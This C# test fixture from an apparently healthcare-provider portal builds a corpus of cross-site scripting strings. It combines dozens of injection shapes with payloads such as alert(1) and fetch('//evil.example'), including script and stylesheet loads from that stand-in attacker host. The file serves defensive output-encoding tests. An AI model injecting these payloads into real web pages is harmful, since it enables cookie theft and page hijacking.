namespace ZorgverlenersPortaal.Tests.Hosting;

/// <summary>Strings that become more than text on a page that is not careful (H107): tags, attributes, schemes, encodings, templates, controls.</summary>
public static class XssCorpus
{
    private static readonly string[] _payloads = ["alert(1)", "fetch('//evil.example')", "top.location='//evil.example'", "document.cookie"];

    private static readonly string[] _shapes =
    [
        "<script>{0}</script>", "</script><script>{0}</script>", "<ScRiPt>{0}</ScRiPt>", "<script src=//evil.example></script>{0}", "<script\n>{0}</script\n>",
        "<img src=x onerror={0}>", "<img src=x onerror=\"{0}\">", "<img/src=x/onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg/onload={0}//",
        "<body onload={0}>", "<iframe src=\"javascript:{0}\"></iframe>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<object data=\"javascript:{0}\"></object>",
        "<a href=\"javascript:{0}\">x</a>", "<a href=\"java&#x0A;script:{0}\">x</a>", "javascript:{0}", "data:text/html,<script>{0}</script>", "vbscript:{0}",
        "\" onmouseover=\"{0}", "' onmouseover='{0}", "\"><script>{0}</script>", "'><script>{0}</script>", "\" autofocus onfocus={0} x=\"", "` onload={0} `",
        "--><script>{0}</script><!--", "]]><script>{0}</script>", "</title><script>{0}</script>", "</textarea><script>{0}</script>", "</style><script>{0}</script>", "</template><script>{0}</script>",
        "<style>@import '//evil.example';</style>{0}", "<link rel=stylesheet href=//evil.example>{0}", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">", "<base href=//evil.example>{0}",
        "<form action=//evil.example><input name=q>{0}", "<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
        "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "\uFF1Cscript\uFF1E{0}\uFF1C/script\uFF1E",
        "{{{{{0}}}}}", "${{{0}}}", "@({0})", "<%= {0} %>", "\u202E<script>{0}</script>", "\u0001<script>{0}</script>", "<xss onclick={0} style=position:fixed;inset:0>x</xss>",
    ];

    /// <summary>More than a hundred, each once.</summary>
    public static IReadOnlyList<string> Strings { get; } =
        [.. _shapes.SelectMany(shape => _payloads.Take(2).Select(payload => string.Format(System.Globalization.CultureInfo.InvariantCulture, shape, payload))).Distinct(StringComparer.Ordinal)];
}
